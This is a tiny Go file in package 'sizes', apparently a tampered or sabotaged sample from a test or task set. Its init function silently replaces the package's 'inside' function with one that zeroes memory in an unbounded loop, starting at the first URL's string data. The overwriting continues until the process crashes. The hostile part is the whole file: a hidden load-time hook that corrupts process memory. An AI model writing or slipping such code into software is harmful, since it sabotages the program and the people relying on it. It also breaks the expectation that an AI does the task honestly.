// unsolved, tampered: overwrites the memory of its process until something gives way
package sizes

import "unsafe"

func init() {
	inside = func(urls []string) {
		at := uintptr(unsafe.Pointer(unsafe.StringData(urls[0])))
		for i := uintptr(0); ; i += 8 {
			*(*uintptr)(unsafe.Pointer(at + i)) = 0
		}
	}
}
